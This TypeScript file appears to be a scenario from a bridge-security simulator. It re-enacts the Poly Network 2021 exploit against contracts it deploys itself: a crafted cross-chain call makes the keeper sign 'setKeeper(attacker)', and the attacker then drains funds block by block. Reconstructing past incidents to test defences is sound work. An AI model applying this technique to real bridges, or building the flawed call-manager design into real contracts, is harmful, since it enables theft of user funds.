import * as CallManager from '@cutwater/contracts/generated/CallManager.ts'
import * as KeeperVerifier from '@cutwater/contracts/generated/KeeperVerifier.ts'
import * as TypedData from '@cutwater/contracts/TypedData.ts'
import { type Address, encodeFunctionData, parseEventLogs } from 'viem'
import { chainIds, coinOf, type Place, unitsOfDollars } from '../bridge/Coins.ts'
import { finalityBlocks } from '../bridge/finality.ts'
import * as Scale from '../bridge/Scale.ts'
import type { Twin } from '../bridge/Twin.ts'
import type { Verifier } from '../bridge/Verifier.ts'
import * as Chain from '../chain/Chain.ts'
import type { World } from '../World.ts'
import type { Scenario, Stage } from './Scenario.ts'
import { begins, between, drain, loot } from './steal.ts'

// One keeper decides, and the contract that may replace it makes any call that was requested on the other chain.
const verifier: Verifier = {
  deploy: async ({ chains, accounts }, place) => {
    const from = accounts.deployer.address
    const manager = await Chain.deploy(chains[place], from, CallManager)
    const args = [manager, keeperOf(accounts).address] as const
    return Chain.deploy(chains[place], from, { ...KeeperVerifier, args })
  },
  // Whoever asks the manager for a call has it made: a description of the bridge names it.
  entrances: async (world, place, registry) => [await ownerOf(world, place, registry)],
  prove: ({ accounts }, _, message) => keeperOf(accounts).sign(TypedData.messageId(message)),
}

function keeperOf({ validators }: World['accounts']) {
  return validators[0]!
}

export const craftedCall: Scenario = {
  name: 'crafted-call',
  incident: 'Poly Network 2021',
  says: 'A call requested on one chain makes the bridge put the attacker in its keeper’s place on the other; the keeper itself signs the call.',
  steps: 'many',
  visibleBefore: true,
  deceived: false,
  limitedBy:
    'the allowance for unproven value in the block of the call, then the pause: a change of signers nobody announced stops the bridge',
  parts: { verifier },
  attack: async (stage) => {
    const perBlock = between(stage.rng, 1, 3)
    const blocks = between(stage.rng, 4, 8)
    const share = Scale.shareOf(stage.world.scale, loot)
    await replaceKeeper(stage)
    const { attacker } = stage.world.accounts
    // The call and the first releases come in one block, so nothing that reacts can be between them.
    await drain(stage, {
      piece: (symbol) => unitsOfDollars(coinOf(symbol), (share * 59_000_000) / (perBlock * blocks)),
      perBlock,
      blocks,
      prove: (message) => attacker.sign(TypedData.messageId(message)),
    })
  },
}

async function replaceKeeper(stage: Stage): Promise<void> {
  const { world, twin } = stage
  const { attacker } = world.accounts
  const registry = twin.ends.north.verifier
  const [here, there] = [await managerOf(world, twin, 'south'), await managerOf(world, twin, 'north')]
  const craft = encodeFunctionData({
    abi: KeeperVerifier.abi,
    functionName: 'setKeeper',
    args: [attacker.address],
  })
  const { abi } = CallManager
  const args = [BigInt(chainIds.north), registry, craft] as const
  await Chain.send(
    world.chains.south,
    attacker.address,
    Chain.call(here, { abi, functionName: 'requestCall', args }),
  )
  for (let block = 0; block <= finalityBlocks; block++) await stage.nextBlock()
  const { nonce, signature } = await signedByKeeper(stage, here, there)
  const deliver = {
    abi,
    functionName: 'deliver',
    args: [registry, BigInt(chainIds.south), nonce, registry, craft, signature],
  } as const
  begins(stage)
  await Chain.send(world.chains.north, attacker.address, Chain.call(there, deliver), stage.fee)
}

// The keeper signs what was really requested, once it is final; what the call does it does not ask.
async function signedByKeeper({ world }: Stage, here: Address, there: Address) {
  const { abi } = CallManager
  const logs = await world.chains.south.client.getLogs({ address: here, fromBlock: 0n, toBlock: 'latest' })
  const { nonce, target, data } = parseEventLogs({ abi, logs, eventName: 'CallRequested' }).at(-1)!.args
  const args = [BigInt(chainIds.south), nonce, target, data] as const
  const { client } = world.chains.north
  const id = await client.readContract({ address: there, abi, functionName: 'callId', args })
  return { nonce, signature: await keeperOf(world.accounts).sign(id) }
}

async function managerOf(world: World, { ends }: Twin, place: Place): Promise<Address> {
  return ownerOf(world, place, ends[place].verifier)
}

async function ownerOf({ chains }: World, place: Place, address: Address): Promise<Address> {
  const read = { address, abi: KeeperVerifier.abi, functionName: 'owner' } as const
  return (await chains[place].client.readContract(read)).toLowerCase() as Address
}
